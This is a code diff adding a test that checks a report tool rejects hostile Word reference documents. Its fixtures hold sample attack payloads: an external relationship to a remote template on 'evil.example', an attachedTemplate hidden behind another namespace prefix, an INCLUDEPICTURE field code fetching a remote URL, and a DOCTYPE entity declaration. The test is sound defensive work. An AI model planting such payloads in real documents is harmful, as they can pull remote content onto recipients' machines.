@@ -447,6 +447,44 @@ def test_a_hostile_reference_document_is_refused_in_one_line(tmp_path):
     assert reference_doc(None, None).is_file()  # ours passes its own check
 
 
+def test_a_hostile_reference_document_is_refused_whatever_its_quoting_or_prefix(tmp_path):
+    """The checks read the parsed XML: single quotes, another prefix bound to Word's namespace or
+    a document type declaration do not get a remote template or a field past them."""
+    from facilitator.reports.formats.docx import reference_doc
+
+    w = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+    variants = {
+        "quotes.docx": (
+            "word/_rels/settings.xml.rels",
+            b"<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
+            b"<Relationship Id='rIdT' Type='http://x/relationships/other' Target='http://evil.example/t.dotm' "
+            b"TargetMode='External'/></Relationships>",
+            "links to files outside itself",
+        ),
+        "prefix.docx": (
+            "word/settings.xml",
+            b'<ns9:settings xmlns:ns9="' + w + b'"><ns9:attachedTemplate xmlns:r="r" r:id="rIdT"/></ns9:settings>',
+            "attaches a template",
+        ),
+        "field.docx": (
+            "word/header1.xml",
+            b'<x:hdr xmlns:x="' + w + b'"><x:p><x:r><x:instrText> INCLUDEPICTURE "http://e/x" </x:instrText>'
+            b"</x:r></x:p></x:hdr>",
+            "holds field codes",
+        ),
+        "doctype.docx": (
+            "word/settings.xml",
+            b'<!DOCTYPE x [<!ENTITY a "aaaa">]><w:settings xmlns:w="' + w + b'">&a;</w:settings>',
+            "declares a document type",
+        ),
+    }
+    for name, (part, data, said) in variants.items():
+        path = _reference_with(tmp_path, name, {part: data})
+        with pytest.raises(ReportError) as refused:
+            reference_doc(path, None)
+        assert said in str(refused.value) and "\n" not in str(refused.value), name
+
+
 def test_a_figures_link_next_to_the_export_is_not_followed(cli, demo, tmp_path):
     elsewhere = tmp_path / "elsewhere"
     elsewhere.mkdir()
